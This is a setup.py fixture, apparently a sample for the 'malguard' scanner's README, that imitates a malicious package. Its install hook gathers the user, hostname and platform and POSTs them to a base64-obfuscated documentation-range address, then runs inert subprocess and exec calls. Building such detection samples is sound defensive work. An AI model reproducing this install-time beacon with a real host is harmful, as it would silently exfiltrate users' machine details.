"""An inert package that acts like a malicious one, for the README's example.

Every address is from a documentation range and the command is "true", so even
an installation would harm nobody. malguard only reads it.
"""
import base64
import getpass
import os
import platform
import socket
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def beacon():
    who = "%s@%s %s" % (getpass.getuser(), socket.gethostname(), platform.platform())
    url = base64.b64decode("aHR0cDovLzE5Mi4wLjIuMS9iZWFjb24=").decode()  # 192.0.2.1
    try:
        urllib.request.urlopen(url, data=who.encode(), timeout=1)
    except OSError:
        pass
    subprocess.Popen(["true"])
    exec(compile("pass", "<beacon>", "exec"))


class Install(install):
    def run(self):
        install.run(self)
        beacon()


setup(name="beacon", version="1.0", packages=["beacon"], cmdclass={"install": Install})
